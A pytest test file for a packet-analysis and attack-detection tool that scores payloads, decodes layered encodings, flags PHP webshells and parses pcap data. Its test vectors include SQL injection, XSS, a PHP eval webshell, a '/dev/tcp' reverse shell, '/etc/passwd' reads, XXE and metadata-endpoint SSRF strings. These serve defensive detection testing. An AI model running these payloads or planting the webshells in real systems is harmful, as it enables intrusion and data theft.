"""Hand vectors for operators that SQL cannot express, and properties of those it can."""

import base64
import struct

import pytest
from pyspark.sql import functions as F

from packetloom.operators import decode as D
from packetloom.operators import php
from packetloom.operators import scoring as S
from packetloom.plans.sessions import resp_commands
from packetloom.sources import pcap

VECTORS = [
    ("' OR 1=1--", {"sqli": 125}, "medium"),
    ("id=1 UNION SELECT NULL,2", {"sqli": 205}, "critical"),
    ("1; DROP TABLE t", {"sqli": 80}, "medium"),
    ("SLEEP(5)", {"sqli": 90}, "medium"),
    ("<script>alert(1)</script>", {"xss": 140}, "medium"),
    ("<img src=x onerror=alert(1)>", {"xss": 140}, "medium"),
    ("<?php eval($_POST['cmd']); ?>", {"xss": 60, "rce": 90}, "high"),
    ("{{7*7}}", {"rce": 50}, "low"),
    ("; cat /etc/passwd", {"cmdi": 80, "traversal": 100}, "high"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444", {"ssrf": 80, "cmdi": 100}, "high"),
    ("../../../etc/passwd", {"traversal": 200}, "critical"),
    ("%2e%2e%2f%2e%2e%2fetc/passwd", {"traversal": 230}, "critical"),
    ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', {"ssrf": 90, "xxe": 370, "traversal": 100}, "critical"),
    ("url=http://169.254.169.254/latest", {"ssrf": 100}, "medium"),
    ('O:4:"User":1:{s:1:"a";i:1;}', {"deser": 130}, "medium"),
    ("hello world", {}, "info"),
    ("please select a union", {"sqli": 40}, "low"),
    (None, {}, "info"),
]


def test_rule_vectors(spark):
    df = spark.createDataFrame([(i, t) for i, (t, *_) in enumerate(VECTORS)], "i int, t string")
    rows = {r["i"]: r for r in S.attack_scores(df, "t").collect()}
    for i, (text, weights, level) in enumerate(VECTORS):
        got = {n: rows[i][f"w_{n}"] for n, *_ in S.DETECTORS if rows[i][f"w_{n}"]}
        assert got == weights, text
        assert rows[i]["threat_level"] == level, text


@pytest.mark.parametrize("layers", [["b64"], ["hex"], ["b64", "hex"], ["url"]])
def test_decode_round_trip(layers):
    text = "flag{the quick brown fox jumps}"
    coded = text
    for k in layers:
        coded = {"b64": lambda s: base64.b64encode(s.encode()).decode(), "hex": lambda s: s.encode().hex(), "url": lambda s: "".join(f"%{b:02x}" for b in s.encode())}[k](coded)
    out = D.decode(coded)
    assert out["final"] == text and "flag{the quick brown fox jumps}" in out["flags"]


def test_decode_short_circuit():
    assert D.decode("a" * 200)["layers"] == 0
    assert D.decode("")["layers"] == 0


@pytest.mark.parametrize(
    ("code", "shell"),
    [("<?php eval($_POST['a']); ?>", True), ("<?php $x = $_GET['c']; system($x);", True), ("<?php $f = 'sys'.'tem'; $f($_REQUEST['x']);", True), ("<?php $x = $_GET['c']; $x = 'ls'; system($x);", False), ("<?php echo 1;", False), ("", False)],
)
def test_taint(code, shell):
    assert php.analyze(code)["webshell"] is shell


def test_resp():
    assert resp_commands(b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$1\r\nv\r\n*1\r\n$4\r\nPI") == [["SET", "k", "v"]]
    assert resp_commands(b"") == []


def frame(payload: bytes, proto: int = 6, sport: int = 1234, dport: int = 80) -> bytes:
    tcp = struct.pack(">HHIIBBHHH", sport, dport, 0, 0, 5 << 4, 24, 0, 0, 0) if proto == 6 else struct.pack(">HHHH", sport, dport, 8 + len(payload), 0)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(payload), 0, 0, 64, proto, 0, bytes([10, 0, 0, 1]), bytes([10, 0, 0, 2]))
    return b"\0" * 12 + b"\x08\x00" + ip + tcp + payload


def test_pcap(spark, tmp_path):
    (tmp_path / "a.pcap").write_bytes(pcap.write_pcap([(1.5, frame(b"GET /a?b=1 HTTP/1.1\r\nHost: x\r\n\r\n")), (2.0, frame(b"q", 17, 5353, 53))]))
    (tmp_path / "b.pcap").write_bytes(b"junk")
    rows = pcap.read_pcap(spark, str(tmp_path)).orderBy("frame_number").collect()
    assert [(r["protocol"], r["http_method"], r["http_uri"], r["dst_port"]) for r in rows] == [("HTTP", "GET", "/a?b=1", 80), ("DNS", None, None, 53)]
    assert len(pcap.repaired(b"noise" + frame(b"x" * 40) + frame(b"y" * 40))) == 2


def test_ek(spark, tmp_path):
    (tmp_path / "a.json").write_text('{"index":{}}\n{"layers":{"frame":{"frame_frame_number":["7"],"frame_frame_protocols":["eth:ip:tcp:http"]},"tcp":{"tcp_tcp_srcport":["80"]},"http":{"http_http_file_data":["61:62"]}}}\nnot json\n')
    r = pcap.read_ek(spark, str(tmp_path / "a.json")).collect()
    assert len(r) == 1 and r[0]["frame_number"] == 7 and r[0]["protocol"] == "HTTP" and r[0]["src_port"] == 80 and bytes(r[0]["body"]) == b"ab"


def test_streaming_scores(spark, tmp_path):
    from packetloom.streaming.detect import attempts_by_window, score_stream

    src = tmp_path / "in"
    df = spark.createDataFrame([(1, "SLEEP(5)", "2024-01-01 00:00:01"), (1, "SLEEP(5)", "2024-01-01 00:00:02"), (2, "hello", "2024-01-01 00:00:03")], "id long, text string, at string").withColumn("at", F.to_timestamp("at"))
    df.write.parquet(str(src))
    stream = spark.readStream.schema(df.schema).parquet(str(src))
    q = score_stream(stream, "text", ["id"], "at").select("id", "total_weight").writeStream.format("memory").queryName("scored").option("checkpointLocation", str(tmp_path / "cp")).start()
    q.processAllAvailable()
    q.stop()
    assert [tuple(r) for r in spark.table("scored").collect()] == [(1, 90)]
    q = attempts_by_window(stream, "id", "at", F.lit(True), least=2).writeStream.outputMode("complete").format("memory").queryName("attempts").option("checkpointLocation", str(tmp_path / "cp2")).start()
    q.processAllAvailable()
    q.stop()
    assert [(r["id"], r["attempts"]) for r in spark.table("attempts").collect()] == [(1, 2)]


def icmp_frame(payload: bytes) -> bytes:
    body = b"\x08\0\0\0\0\x01\0\x01" + payload
    return b"\0" * 12 + b"\x08\x00" + struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, 1, 0, bytes([10, 0, 0, 1]), bytes([10, 0, 0, 2])) + body


def test_analyzers(spark, tmp_path):
    from packetloom.operators.analyzers import ANALYZERS, analyze

    syn = frame(b"", dport=22)
    syn = syn[:47] + b"\x02" + syn[48:]
    packets = [(1.0, icmp_frame(b"flag{")), (1.1, icmp_frame(b"ok}")), (2.0, frame(b"GET /?q=SLEEP(5) HTTP/1.1\r\n\r\n"))] + [(3 + i / 2, syn) for i in range(10)]
    (tmp_path / "a.pcap").write_bytes(pcap.write_pcap(packets))
    found = {(r["protocol"], r["is_flag"]): r["description"] for r in analyze(pcap.read_pcap(spark, str(tmp_path))).where("title <> 'session'").collect()}
    assert found[("ICMP", True)] == "flag{ok}" and found[("HTTP", False)].startswith("sqli medium") and found[("SSH", False)].startswith("10.0.0.1 10")
    assert {"ICMP", "HTTP", "TCP", "DNS"} < set(ANALYZERS)
